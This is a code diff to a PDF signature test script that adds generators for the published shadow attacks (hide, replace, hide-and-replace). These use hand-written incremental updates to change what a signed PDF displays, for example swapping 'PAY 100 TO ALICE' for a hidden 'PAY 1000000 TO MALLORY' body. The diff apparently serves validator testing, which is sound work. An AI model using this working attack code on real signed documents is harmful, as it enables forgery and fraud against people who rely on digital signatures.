@@ -12,6 +12,17 @@ fill-form:     every text field's value and appearance set (form filling: DocMDP
 form-pdf:      a one-page PDF with one text field `name` (the input for fill-form).
 lock-sign:     a new approval signature by pyHanko whose field locks the text field
                `name` (FieldMDP Include).
+shadow-pdf:    a one-page PDF prepared for the shadow attacks (Mainka et al., 2021): a
+               white overlay XObject (6 0) covers part of the text, and an orphan
+               second body for the content stream (4 0), listed in no cross-reference
+               section, sits in the file.
+    python pdf_attacks.py - shadow-pdf OUT.pdf
+hide:          (after signing shadow-pdf) a cross-reference section and nothing else,
+               freeing the overlay: what it covered shows.
+replace:       (likewise) the font (5 0) redefined: the same text codes draw other
+               glyphs.
+hide-and-replace: (likewise) a cross-reference section and nothing else, pointing the
+               content stream's entry at the orphan body signed with the document.
 sign-after:    a new approval signature by pyHanko, its own refusal to sign a document
                certified with DocMDP P=1 switched off (the attack a validator must see).
 certify-after: a certification signature added after an existing signature (pyHanko's
@@ -65,6 +76,71 @@ def form_pdf(out):
     open(out, "wb").write(bytes(pdf))
 
 
+SHADOW_ORPHAN = b"BT /F1 24 Tf 72 700 Td (PAY 1000000 TO MALLORY) Tj ET"
+
+
+def shadow_pdf(out):
+    content = (b"BT /F1 24 Tf 72 700 Td (PAY 100 TO ALICE) Tj ET "
+               b"BT /F1 24 Tf 72 600 Td (SECRET CLAUSE) Tj ET q /Cover Do Q")
+    cover = b"1 1 1 rg 60 590 400 40 re f"
+    objs = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >> >> >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length %d >>\nstream\n"
+        % len(cover) + cover + b"\nendstream",
+    ]
+    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for i, body in enumerate(objs, 1):
+        offsets.append(len(pdf))
+        pdf += b"%d 0 obj\n" % i + body + b"\nendobj\n"
+    # The orphan: object 4 once more, in the signed bytes but in no xref section.
+    pdf += (b"4 0 obj\n<< /Length %d >>\nstream\n" % len(SHADOW_ORPHAN) + SHADOW_ORPHAN
+            + b"\nendstream\nendobj\n")
+    xref = len(pdf)
+    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
+    for o in offsets:
+        pdf += b"%010d 00000 n \n" % o
+    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
+    open(out, "wb").write(bytes(pdf))
+
+
+def shadow_update(src, kind, out):
+    """An incremental update written by hand: pyHanko's writer cannot leave out the
+    objects, which is the point of these attacks."""
+    import re
+    data = open(src, "rb").read()
+    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    size = max(int(x) for x in re.findall(rb"/Size\s+(\d+)", data))
+    root = re.findall(rb"/Root\s+(\d+\s+\d+)\s+R", data)[-1]
+    if not data.endswith(b"\n"):
+        data += b"\n"
+    body = b""
+    if kind == "hide":
+        entries = b"6 1\n0000000000 00001 f \n"
+    elif kind == "replace":
+        at = len(data)
+        body = (b"5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
+                b"/Encoding << /Differences [49 /nine /zero] >> >>\nendobj\n")
+        entries = b"5 1\n%010d 00000 n \n" % at
+    elif kind == "hide-and-replace":
+        # The orphan: the last "4 0 obj" before the first signature's bytes end.
+        at = [m.start() for m in re.finditer(rb"(?<![0-9])4 0 obj", data)][1]
+        entries = b"4 1\n%010d 00000 n \n" % at
+    else:
+        raise SystemExit(f"unknown shadow attack {kind}")
+    data += body
+    xref = len(data)
+    data += (b"xref\n0 1\n0000000000 65535 f \n" + entries
+             + b"trailer\n<< /Size %d /Root %s R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+             % (size, root, prev, xref))
+    open(out, "wb").write(data)
+
+
 def fill_form(src, out):
     with open(src, "rb") as f:
         w = IncrementalPdfFileWriter(f)
@@ -109,6 +185,10 @@ def main(src, kind, out, *rest):
         return form_pdf(out)
     if kind == "fill-form":
         return fill_form(src, out)
+    if kind == "shadow-pdf":
+        return shadow_pdf(out)
+    if kind in ("hide", "replace", "hide-and-replace"):
+        return shadow_update(src, kind, out)
     with open(src, "rb") as f:
         w = IncrementalPdfFileWriter(f)
         page = w.root["/Pages"]["/Kids"].raw_get(0).get_object()
